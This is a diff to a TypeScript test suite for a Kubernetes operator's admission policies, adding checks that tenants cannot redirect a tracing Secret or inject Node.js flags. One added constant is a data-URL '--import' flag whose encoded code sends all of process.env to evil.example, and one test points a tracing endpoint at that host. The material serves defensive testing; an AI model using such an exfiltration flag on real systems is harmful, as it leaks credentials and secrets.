@@ -13,6 +13,9 @@ import { podTemplate, renderService, World } from '../support/world.ts';
 import { FORBIDDEN, type Forbidden, RIGHTS, type Tenant } from './forbidden-resources.ts';
 
 const NAMESPACE = 'tenants';
+/** A flag of Node.js that is one. */
+const PROGRAM =
+  '--import=data:text/javascript,fetch%28%22http:%2F%2Fevil.example%2F%22+JSON.stringify%28process.env%29%29';
 const TENANTS = Object.keys(RIGHTS) as Tenant[];
 
 let server: ApiServer;
@@ -123,6 +126,7 @@ const POD_MISDEEDS: [what: string, name: keyof typeof PODS, patch: object][] = [
   ['one annotation less', 'own', { metadata: { annotations: { a: null } } }],
   ['a finalizer', 'own', { metadata: { finalizers: ['example.com/stay'] } }],
   ['the annotation of a pod of nobody', 'alien', NUDGE],
+  ['the label of a pod of nobody', 'alien', { metadata: { labels: { 'corelane.dev/serving': 'false' } } }],
 ];
 const change = (name: keyof typeof PODS, patch: object) =>
   operator.patch(`${world.path('Pod', name)}?dryRun=All`, patch);
@@ -166,6 +170,10 @@ describe('with the policies', () => {
   beforeAll(async () => {
     // Somebody who may has made this one; what tenants do with it is below.
     await world.createRenderService('of-admin', { template: podTemplate({}, { hostPID: true }) });
+    await world.createRenderService('with-headers', {
+      template: podTemplate(),
+      tracing: { endpoint: 'https://otlp.example', headersFrom: { name: 'key' } },
+    });
     await installAdmissionPolicies(server);
   });
 
@@ -219,9 +227,29 @@ describe('with the policies', () => {
     await expect(
       patch({ template: podTemplate({ image: 'corelane.test/evil:1' }, { hostPID: true }) }),
     ).rejects.toThrow('denied request: spec.template.spec: hostPID');
+    // So is a flag that is a program.
+    await expect(patch({ runtime: { nodeFlags: [PROGRAM] } })).rejects.toThrow(
+      'denied request: spec.template.spec: hostPID',
+    );
     await expect(patch({ service: { type: 'LoadBalancer' } })).rejects.toThrow('denied request: spec.');
     await patch({ template: podTemplate({ image: 'corelane.test/good:1' }, { hostPID: null }) });
     await tenant('delete', 'renderservice', 'of-admin');
+  });
+
+  test('a tenant sends no Secret that somebody else has named to another endpoint, nor to a program of his', async () => {
+    const patch = (spec: object) =>
+      world.kubectl.run(
+        ...['patch', 'renderservice', 'with-headers', '--type=merge', `--patch=${JSON.stringify({ spec })}`],
+        '--as=tenant',
+      );
+    await patch({ replicas: 3 });
+    for (const spec of [
+      { tracing: { endpoint: 'https://evil.example' } },
+      { template: podTemplate({ image: 'corelane.test/evil:1' }) },
+      { runtime: { nodeFlags: [PROGRAM] } },
+    ])
+      await expect(patch(spec)).rejects.toThrow('denied request: spec.tracing.headersFrom: ');
+    await patch({ tracing: { endpoint: 'https://evil.example', headersFrom: null } });
   });
 
   test.each(FOREIGN)("the operator's account writes no $kind but those of RenderServices", async (foreign) => {
@@ -240,11 +268,14 @@ describe('with the policies', () => {
   });
 
   test.each(POD_MISDEEDS)("the operator's account gives a pod not %s", async (_what, name, patch) => {
-    await expect(change(name, patch)).rejects.toThrow('may only change the annotation corelane.dev/live of pods');
+    await expect(change(name, patch)).rejects.toThrow(
+      'may only change the annotation corelane.dev/live and the label corelane.dev/serving of pods',
+    );
   });
 
-  test('but the annotation it does', async () => {
+  test('but the annotation it does, and the label by which the Service tells who gets requests', async () => {
     await change('own', NUDGE);
+    await change('own', { metadata: { labels: { 'corelane.dev/serving': 'false' } } });
   });
 
   test('others write what they like', async () => {
@@ -264,7 +295,9 @@ describe('with the policies', () => {
     });
     await eventually('all of it is done', async () => {
       await world.get('ServiceAccount', 'works');
-      expect((await world.get('Service', 'works')).spec.selector).toEqual({ 'corelane.dev/renderservice': 'works' });
+      expect((await world.get('Service', 'works')).spec.selector).toEqual({
+        ...{ 'corelane.dev/renderservice': 'works', 'corelane.dev/serving': 'true' },
+      });
       expect(await world.find('PodDisruptionBudget', 'works')).toBeUndefined();
       expect(await world.find('NetworkPolicy', 'works')).toBeUndefined();
     });
